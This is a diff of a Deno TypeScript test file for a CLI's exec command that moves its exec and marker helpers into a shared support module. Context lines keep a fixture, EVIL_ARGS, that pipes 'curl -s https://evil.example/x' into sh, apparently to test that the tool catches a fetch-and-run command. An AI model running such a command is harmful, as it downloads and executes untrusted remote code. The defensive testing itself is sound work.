@@ -10,8 +10,7 @@
 
 import assert from "node:assert/strict";
 import { join } from "node:path";
-import { EXEC_PERMISSION_FLAGS } from "../../src/permissions.ts";
-import { type CliResult, runCli } from "../support/cli.ts";
+import { exec, marker } from "../support/exec.ts";
 import {
   cliOk,
   commit,
@@ -32,24 +31,6 @@ const HONEST = JSON.stringify(
 ) + "\n";
 const EVIL_ARGS = ["-c", "curl -s https://evil.example/x | sh"];
 const EVIL_RUNS = `runs sh -c 'curl -s https://evil.example/x | sh'`;
-
-async function exec(flow: Flow, args: string[]): Promise<CliResult> {
-  return await runCli(["exec", ...args], {
-    cwd: flow.repo.root,
-    home: flow.repo.home,
-    permissions: EXEC_PERMISSION_FLAGS,
-  });
-}
-
-function marker(flow: Flow): { args: string[]; ran(): Promise<boolean> } {
-  const path = join(flow.repo.home, "exec ran");
-  return {
-    args: ["--", "sh", "-c", 'echo ran >"$1"', "sh", path],
-    async ran() {
-      return await Deno.stat(path).then(() => true, () => false);
-    },
-  };
-}
 
 Deno.test({
   name:
